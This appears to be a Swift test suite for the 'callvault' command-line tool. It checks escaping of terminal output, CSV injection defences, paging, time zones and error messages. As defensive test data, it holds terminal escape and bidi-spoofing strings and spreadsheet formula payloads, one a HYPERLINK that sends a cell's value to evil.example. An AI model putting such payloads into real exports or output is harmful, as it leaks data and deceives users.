// What the command line prints, through the real binary: escaped text on terminals, CSV a spreadsheet cannot
// run, the same numbers in CSV and JSON, CSV paging, dates in the tenant's zone, --version, unreadable stores.
import CallVaultTesting
import Foundation
import CallVaultStore
import Testing

/// Text an older catalog may hold: an OSC title sequence ended by BEL, a clear-screen CSI, an 8-bit CSI (C1),
/// DEL, a right-to-left override and a left-to-right isolate, a newline (a forged row).
let hostileText = "x\u{1b}]0;owned\u{07}\u{1b}[2J\u{9b}31m\u{7f}\u{202e}gpj.exe\u{2066}\u{061c}\u{200f}\nforged"

/// The scalars no human output may carry (a newline between lines is fine).
func unsafeScalars(_ text: String) -> [UInt32] {
    text.unicodeScalars.map(\.value).filter { v in
        (v < 0x20 && v != 0x0A) || (0x7F...0x9F).contains(v) || (0x202A...0x202E).contains(v)
            || (0x2066...0x2069).contains(v) || v == 0x200E || v == 0x200F || v == 0x061C
    }
}

/// A writable connection to the store's catalog, as an older version (or someone with file access) would write.
func writableCatalog(_ box: Sandbox) throws -> any CatalogEngine {
    try box.catalog()
}

/// Runs python3's csv module over CSV text: the rows as a spreadsheet or script reads them.
func parseCSV(_ text: String) throws -> [[String: String]] {
    let p = Process()
    p.executableURL = URL(fileURLWithPath: "/usr/bin/env")
    p.arguments = ["python3", "-c", "import csv,sys,json; print(json.dumps(list(csv.DictReader(sys.stdin))))"]
    let input = Pipe(), output = Pipe()
    p.standardInput = input
    p.standardOutput = output
    try p.run()
    input.fileHandleForWriting.write(Data(text.utf8))
    try input.fileHandleForWriting.close()
    let data = output.fileHandleForReading.readDataToEndOfFile()
    p.waitUntilExit()
    return try JSONSerialization.jsonObject(with: data) as? [[String: String]] ?? []
}

@Suite struct TerminalEscapingTests {
    @Test func noHumanOutputSendsControlOrBidiCharactersFromTheCatalog() throws {
        let box = Sandbox()
        try box.initStore()
        try box.addCall(callID: "c1", startedAt: "2026-11-20T10:00:00+01:00")
        #expect(try box.run(["ingest", "inbox"]).status == 0)
        let id = try box.recordingIDs()["c1"]!
        let held = try box.run(["hold", "place", "--json", "--kind", "legal", "--case", hostileText, "--note", hostileText, "--recording", id])
        #expect(held.status == 0, "\(held.stderr)")
        let holdID = try held.json()["hold_id"] as! String
        let quarantineID = "0192f3a4-5b6c-7d8e-9f01-23456789abcd"
        let q = try writableCatalog(box)
        try q.write { db in
            try db.execute(sql: "UPDATE recordings SET call_id = ?, team = ?, queue = ?, site = ? WHERE id = ?",
                           arguments: [hostileText, hostileText, hostileText, hostileText, id])
            // A fixed instant inside the report's range (`--to` is now, exclusive, to the second).
            try db.execute(sql: "INSERT INTO rejections (id, at, tenant, reason, detail, quarantine_path) VALUES (?, '2026-11-01T00:00:00Z', 'acme-energy', ?, ?, 'quarantine/x')",
                           arguments: [quarantineID, hostileText, hostileText])
            let seq = try Int.fetchOne(db, sql: "SELECT max(seq) FROM audit_events")! + 1
            try db.execute(sql: """
                INSERT INTO audit_events (seq, at, actor, principal, action, target, details, prev_hash, hash)
                VALUES (?, ?, ?, ?, ?, ?, ?, '0', '0')
                """, arguments: [seq, isoUTC(TestDays.now), hostileText, hostileText, hostileText, hostileText, hostileText])
        }

        let commands: [[String]] = [
            ["list"], ["show", id], ["hold", "list"], ["hold", "show", holdID], ["quarantine", "list"],
            ["quarantine", "show", quarantineID], ["audit", "list"], ["report", "--from", "2026-01-01"],
        ]
        for args in commands {
            let r = try box.run(args)
            #expect(r.status == 0, "\(args): \(r.stderr)")
            #expect(unsafeScalars(r.stdout).isEmpty, "\(args) sent \(unsafeScalars(r.stdout).map { String($0, radix: 16) })")
            #expect(r.stdout.contains("\\x1b") || args == ["list"], "\(args): escaped visibly")
        }
        // The table shows the team (escaped); the show lists every field, bidi controls written as \u.
        #expect(try box.run(["list"]).stdout.contains("x\\x1b]0;owned\\x07"))
        #expect(try box.run(["show", id]).stdout.contains("\\u202egpj.exe\\u2066\\u061c\\u200f\\x0aforged"))

        // JSON is escaped too, and loses nothing: a parser gets the text back exactly.
        for args in [["show", id, "--json"], ["hold", "show", holdID, "--json"], ["audit", "list", "--json"]] {
            let r = try box.run(args)
            #expect(r.status == 0)
            #expect(unsafeScalars(r.stdout.replacingOccurrences(of: "\n", with: "")).isEmpty, "\(args)")
        }
        #expect(try box.run(["show", id, "--json"]).json()["team"] as? String == hostileText)
        #expect(try box.run(["hold", "show", holdID, "--json"]).json()["case_ref"] as? String == hostileText)
    }
}

@Suite struct CSVOutputTests {
    /// Six calls whose team (free text in a sidecar) is what an attacker would put in a spreadsheet cell.
    static let teams = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1)", "@cmd", "-1+1", "\tx", "+32470123456"]

    @Test func cellsASpreadsheetWouldRunAreNeutralisedButNumbersStayReadable() throws {
        let box = Sandbox()
        try box.initStore()
        for i in Self.teams.indices { try box.addCall(callID: "c\(i)", startedAt: "2026-11-20T10:0\(i):00+01:00") }
        #expect(try box.run(["ingest", "inbox"]).status == 0)
        try writableCatalog(box).write { db in
            for (i, t) in Self.teams.enumerated() {
                try db.execute(sql: "UPDATE recordings SET team = ? WHERE call_id = ?", arguments: [t, "c\(i)"])
            }
        }
        let r = try box.run(["list", "--format", "csv", "--limit", "100"])
        #expect(r.status == 0)
        let rows = try parseCSV(r.stdout)
        let byCall = Dictionary(uniqueKeysWithValues: rows.map { ($0["call_id"]!, $0["team"]!) })
        #expect(byCall["c0"] == "'" + Self.teams[0])
        #expect(byCall["c1"] == "'+SUM(1)")
        #expect(byCall["c2"] == "'@cmd")
        #expect(byCall["c3"] == "'-1+1")
        #expect(byCall["c4"] == "'\tx")
        #expect(byCall["c5"] == "+32470123456", "an E.164 number stays as it is")
        #expect(rows.allSatisfy { $0["agent_id"] == "a-1" }, "ordinary cells untouched")
    }

    @Test func durationIsTheSameTextInCSVAndJSON() throws {
        let box = Sandbox()
        try box.initStore()
        try box.addCall(callID: "whole", startedAt: "2026-11-20T10:00:00+01:00")
        try box.addCall(callID: "half", startedAt: "2026-11-20T10:01:00+01:00")
        #expect(try box.run(["ingest", "inbox"]).status == 0)
        try writableCatalog(box).write { db in
            try db.execute(sql: "UPDATE recordings SET duration_s = 3.0 WHERE call_id = 'whole'")
            try db.execute(sql: "UPDATE recordings SET duration_s = 3.5 WHERE call_id = 'half'")
        }
        let json = try box.run(["list", "--json"]).stdout
        let csv = try parseCSV(box.run(["list", "--format", "csv"]).stdout)
        #expect(csv.map { $0["duration_s"]! } == ["3.5", "3"])
        #expect(json.contains(#""duration_s":3.5,"#) && json.contains(#""duration_s":3,"#))
    }

    @Test func csvPagesThroughEveryRowWithTheCursorOnStderr() throws {
        let box = Sandbox()
        try box.initStore()
        for i in 0..<5 { try box.addCall(callID: "p\(i)", startedAt: "2026-11-20T10:0\(i):00+01:00") }
        #expect(try box.run(["ingest", "inbox"]).status == 0)
        var seen: [String] = []
        var cursor: String? = nil
        var pages = 0
        repeat {
            let r = try box.run(["list", "--format", "csv", "--limit", "2"] + (cursor.map { ["--cursor", $0] } ?? []))
            #expect(r.status == 0)
            let rows = try parseCSV(r.stdout)
            #expect(rows.count <= 2, "stdout is the CSV alone")
            seen += rows.map { $0["call_id"]! }
            cursor = r.stderr.split(separator: "\n").first { $0.hasPrefix("next page: --cursor ") }
                .map { String($0.dropFirst("next page: --cursor ".count)) }
            pages += 1
        } while cursor != nil && pages < 10
        #expect(pages == 3)
        #expect(seen == ["p4", "p3", "p2", "p1", "p0"])
    }
}

@Suite struct OperatorCLITests {
    @Test func versionIsOneLine() throws {
        let r = try Sandbox().run(["--version"])
        #expect(r.status == 0)
        #expect(r.stdout.range(of: #"^callvault [0-9]+\.[0-9]+\.[0-9]+\n$"#, options: .regularExpression) != nil, "\(r.stdout)")
    }

    /// Runs the binary as `nobody` (root is never denied a read).
    func runAsNobody(_ box: Sandbox, _ args: [String]) throws -> CLIResult {
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/sbin/runuser")
        p.arguments = ["-u", "nobody", "--", Sandbox.binary] + args
        p.currentDirectoryURL = URL(fileURLWithPath: "/")
        let out = Pipe(), err = Pipe()
        p.standardOutput = out
        p.standardError = err
        try p.run()
        let o = out.fileHandleForReading.readDataToEndOfFile(), e = err.fileHandleForReading.readDataToEndOfFile()
        p.waitUntilExit()
        return CLIResult(status: p.terminationStatus, killed: false, stdout: String(decoding: o, as: UTF8.self),
                         stderr: String(decoding: e, as: UTF8.self))
    }

    @Test func aStoreTheUserCannotReadIsNotCalledMissing() throws {
        let box = Sandbox()
        try box.initStore()
        chmod(box.dir, 0o755)
        let denied = try runAsNobody(box, ["--store", box.store, "list"])
        #expect(denied.status == 3, "\(denied.stderr)")
        #expect(denied.stderr.contains("belongs to root") && denied.stderr.contains("sudo -u root callvault"), "\(denied.stderr)")
        #expect(!denied.stderr.contains("init"))
        #expect(denied.stderr.split(separator: "\n").count == 1)
        // A store that truly does not exist still gets the advice.
        let missing = try runAsNobody(box, ["--store", box.dir + "/nothing-here", "list"])
        #expect(missing.status == 2)
        #expect(missing.stderr.contains("create one with `callvault init`"))
    }

    @Test func initRefusesAStoreWhoseConfigurationIsMissing() throws {
        let box = Sandbox()
        try box.initStore(production: true)
        try box.addCall(callID: "kept", startedAt: onRealClock("2026-11-20T10:00:00+01:00"))
        #expect(try box.run(["ingest", "inbox"]).status == 0)
        let config = box.store + "/callvault.toml"
        let text = try String(contentsOfFile: config, encoding: .utf8)
        try FileManager.default.removeItem(atPath: config)

        let r = try box.run(["init", "--simulation", "--tenant", "acme-energy"])
        #expect(r.status == 2)
        #expect(r.stderr.split(separator: "\n").count == 1)
        #expect(!FileManager.default.fileExists(atPath: config), "nothing written")
        #expect(try box.catalog().read { try String.fetchOne($0, sql: "SELECT value FROM store_meta WHERE key = 'simulation'") } == "false")

        // With its configuration restored, the store is what it was: a simulated sweep does not delete.
        try text.write(toFile: config, atomically: true, encoding: .utf8)
        let sweep = try box.run(["sweep", "--json", "--now", "2099-01-01T00:00:00Z"])
        #expect(sweep.status == 0)
        #expect(try sweep.json()["dry_run"] as? Bool == true)
        #expect(try box.state().audio == ["kept"])
    }

    @Test func aBareDateIsMidnightInTheTenantsTimeZone() throws {
        let box = Sandbox()
        try box.initStore()
        // 00:30 in Brussels on the 21st is still the 20th in UTC.
        try box.addCall(callID: "early", startedAt: "2026-11-21T00:30:00+01:00")
        try box.addCall(callID: "eve", startedAt: "2026-11-20T23:30:00+01:00")
        try box.addCall(tenant: "telco-be", callID: "t-early", startedAt: "2026-11-21T00:30:00+01:00")
        #expect(try box.run(["ingest", "inbox"]).status == 0)
        func calls(_ args: [String]) throws -> [String] {
            let r = try box.run(["list", "--json"] + args)
            #expect(r.status == 0, "\(r.stderr)")
            return (try r.json()["recordings"] as! [[String: Any]]).map { $0["call_id"] as! String }.sorted()
        }
        // Both tenants on the default Europe/Brussels: the day the table shows.
        #expect(try calls(["--from", "2026-11-21", "--to", "2026-11-21"]) == ["early", "t-early"])
        #expect(try box.run(["list"]).stdout.contains("2026-11-21 00:30"))
        // telco-be on UTC: its own zone with --tenant; without, the tenants disagree and the default zone applies.
        var text = try String(contentsOfFile: box.store + "/callvault.toml", encoding: .utf8)
        text = text.replacingOccurrences(of: "[tenants.telco-be]\n", with: "[tenants.telco-be]\ntime_zone = \"UTC\"\n")
        try text.write(toFile: box.store + "/callvault.toml", atomically: true, encoding: .utf8)
        #expect(try calls(["--tenant", "telco-be", "--from", "2026-11-21"]).isEmpty)
        #expect(try calls(["--tenant", "telco-be", "--from", "2026-11-20", "--to", "2026-11-20"]) == ["t-early"])
        #expect(try calls(["--tenant", "acme-energy", "--from", "2026-11-21"]) == ["early"])
        #expect(try calls(["--from", "2026-11-21"]) == ["early", "t-early"])
    }

    @Test func simulatedSweepsKeepTheChainsTimesInOrder() throws {
        let box = Sandbox()
        try box.initStore(["--simulation"])
        try box.addCall(callID: "gone", startedAt: "2026-11-20T10:00:00+01:00")
        #expect(try box.run(["ingest", "inbox"]).status == 0)
        let r = try box.run(["sweep", "--json", "--now", "2099-01-01T00:00:00Z"])
        #expect(r.status == 0)
        #expect(try r.json()["metadata_deleted"] as? Int == 1)
        #expect(try box.run(["list"]).status == 0)
        let rows = try box.catalog().read { try SQLRow.fetchAll($0, sql: "SELECT at, action, details FROM audit_events ORDER BY seq") }
        let times = rows.map { $0["at"] as String }
        #expect(times == times.sorted(), "wall-clock times never run backwards")
        let sweepEvents = rows.filter { ($0["action"] as String).hasPrefix("sweep.") }
        #expect(sweepEvents.count == 2)
        #expect(sweepEvents.allSatisfy { ($0["details"] as String).contains(#""simulated_now":"2099-01-01T00:00:00Z""#) })
        #expect(sweepEvents.allSatisfy { !($0["at"] as String).hasPrefix("2099") })
        // A sweep on the real clock says nothing of a simulated instant.
        #expect(try box.run(["sweep"]).status == 0)
        let last = try box.catalog().read { try String.fetchOne($0, sql: "SELECT details FROM audit_events WHERE action = 'sweep.finished' ORDER BY seq DESC LIMIT 1") }
        #expect(last?.contains("simulated_now") == false)
    }
}
